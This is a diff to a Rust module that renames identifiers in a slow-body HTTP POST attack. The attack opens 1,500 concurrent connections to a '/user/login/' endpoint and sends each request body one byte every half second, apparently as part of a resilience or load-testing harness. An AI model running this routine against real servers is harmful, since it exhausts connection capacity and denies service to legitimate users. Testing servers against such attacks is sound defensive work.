@@ -1,4 +1,4 @@
-//! Log-ins whose body comes byte by byte, never to its end.
+//! Log-ins with a body that is sent byte by byte and never ends.
 
 use std::{sync::Arc, time::Duration};
 
@@ -7,33 +7,33 @@ use tokio::{
     time::{sleep, timeout},
 };
 
-use super::talk::{post_head, until_cut};
-use crate::besiegers::{Ground, crowd};
+use super::raw_http::{post_head, read_until_closed};
+use crate::context::{AttackContext, run_concurrently};
 
 const CONNECTIONS: usize = 1_500;
-const LENGTH: usize = 4_000;
+const LENGTH_BYTES: usize = 4_000;
 const BETWEEN_BYTES: Duration = Duration::from_millis(500);
-/// Whoever was cut off at once waits so long.
+/// After a connection that was cut at once.
 const PAUSE: Duration = Duration::from_millis(50);
 
-pub(super) async fn run(ground: Arc<Ground>) {
-    crowd(ground.count(CONNECTIONS), |_| one(Arc::clone(&ground))).await;
+pub(super) async fn run(context: Arc<AttackContext>) {
+    run_concurrently(context.scaled(CONNECTIONS), |_| attack(Arc::clone(&context))).await;
 }
 
-async fn one(ground: Arc<Ground>) {
-    let from = ground.address(0, 1);
-    for _ in 0..ground.calls_max {
-        let Some(mut stream) = ground.connect(from).await else { continue };
-        if stream.write_all(&post_head("/user/login/", LENGTH)).await.is_err() {
+async fn attack(context: Arc<AttackContext>) {
+    let from = context.address(0, 1);
+    for _ in 0..context.calls_max {
+        let Some(mut stream) = context.connect(from).await else { continue };
+        if stream.write_all(&post_head("/user/login/", LENGTH_BYTES)).await.is_err() {
             continue;
         }
-        for _ in 1..LENGTH {
-            if let Ok(status) = timeout(BETWEEN_BYTES, until_cut(&mut stream)).await {
-                ground.saw(status.as_deref().unwrap_or("cut"));
+        for _ in 1..LENGTH_BYTES {
+            if let Ok(status) = timeout(BETWEEN_BYTES, read_until_closed(&mut stream)).await {
+                context.observe(status.as_deref().unwrap_or("cut"));
                 break;
             }
             if stream.write_all(b" ").await.is_err() {
-                ground.saw("cut");
+                context.observe("cut");
                 break;
             }
         }
